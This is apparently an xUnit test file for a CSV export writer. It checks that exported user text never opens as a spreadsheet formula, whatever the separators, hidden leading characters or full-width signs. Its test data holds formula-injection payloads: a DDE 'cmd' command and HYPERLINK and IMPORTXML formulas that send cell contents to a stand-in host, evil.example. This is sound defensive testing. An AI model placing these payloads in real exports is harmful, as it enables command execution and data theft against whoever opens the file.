using Bridge.Host.Exporting;

namespace Bridge.Host.Tests.Verbs;

/// <summary>What somebody wrote is text when a spreadsheet opens the export: with commas or semicolons between, and however its beginning is hidden.</summary>
public sealed class ExportedFieldTests(ITestOutputHelper output)
{
    private static readonly string[] Beginnings = ["=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\u00a0=", "\u3000=", "\ufeff=", "\u200b=", "\u202e=", "＝", "＋", "－", "＠", "|", "%", "\0="];

    private static readonly string[] Ends =
    [
        "1+1", "cmd|' /C calc'!A0", "HYPERLINK(\"http://evil.example?\"&A1,\"click\")", "IMPORTXML(\"http://evil.example\",\"//a\")", "SUM(1,2)", "2+3+cmd|' /C calc'!A0", "\";=1+1", ",=1+1", "x;=1+1", "x\t=1+1", "'", "\"",
    ];

    private static IReadOnlyList<string> Corpus { get; } =
        [.. from beginning in Beginnings from end in Ends select beginning + end, "x;=1+1", "x\t=1+1", "x|=1+1", "x,=1+1", "x\";=1+1", "x\r\n=1+1"];

    [Fact]
    public void IsTextWithEitherSeparator()
    {
        Assert.True(Corpus.Count >= 200, $"{Corpus.Count}");
        var wrong = new List<string>();
        foreach (var text in Corpus)
        {
            foreach (var separator in (char[])[',', ';', '\t', '|'])
            {
                wrong.AddRange(Cells(Written(text), separator).Where(IsFormula).Select(cell => $"{text} became {cell} with {separator} between"));
            }
        }

        Assert.Empty(wrong);
        output.WriteLine($"{Corpus.Count} fields, 4 separators: none is a formula");
    }

    [Theory]
    [InlineData("王明", "a name")]
    [InlineData("A-1203", "a unit")]
    [InlineData("12", "a number")]
    [InlineData("2026-03-02T09:30:00.0000000+08:00", "a time")]
    [InlineData("", "nothing")]
    [InlineData("O'Brien", "a name with an apostrophe")]
    public void TheHarmlessIsAsItWas(string text, string why) => Assert.True(Written(text) == $"a,{text},b\r\n", $"{why}: {Written(text)}");

    [Theory]
    [InlineData("a,=1,b\r\n", ',', "plainly")]
    [InlineData("a,x;=1,b\r\n", ';', "behind another country's separator")]
    [InlineData("a, =1,b\r\n", ',', "behind a blank")]
    [InlineData("a,＝1,b\r\n", ',', "in wide letters")]
    public void WhatIsLookedForIsFound(string csv, char separator, string why) => Assert.True(Cells(csv, separator).Any(IsFormula), why);

    private static string Written(string text)
    {
        var csv = new StringWriter();
        using (var table = SpreadsheetText.Writer(csv))
        {
            table.WriteRecord(SpreadsheetText.Row(["a", text, "b"]));
        }

        return csv.ToString();
    }

    private static bool IsFormula(string cell)
    {
        var seen = cell.TrimStart(' ', '\u00a0', '\u3000', '\ufeff', '\u200b', '\u202e', '\t', '\r', '\n', '\0');
        return seen.Length > 0 && "=+-@＝＋－＠".Contains(seen[0], StringComparison.Ordinal);
    }

    // As a spreadsheet reads: quotes around a whole field count, quotes inside an open one are letters.
    private static IEnumerable<string> Cells(string csv, char separator)
    {
        var cell = new System.Text.StringBuilder();
        var quoted = false;
        for (var at = 0; at < csv.Length; at++)
        {
            if (quoted && csv[at] == '"' && at + 1 < csv.Length && csv[at + 1] == '"')
            {
                cell.Append(csv[at++]);
            }
            else if (csv[at] == '"' && (quoted || cell.Length == 0))
            {
                quoted = !quoted;
            }
            else if (!quoted && (csv[at] == separator || csv[at] is '\r' or '\n'))
            {
                yield return cell.ToString();
                cell.Clear();
            }
            else
            {
                cell.Append(csv[at]);
            }
        }

        yield return cell.ToString();
    }
}
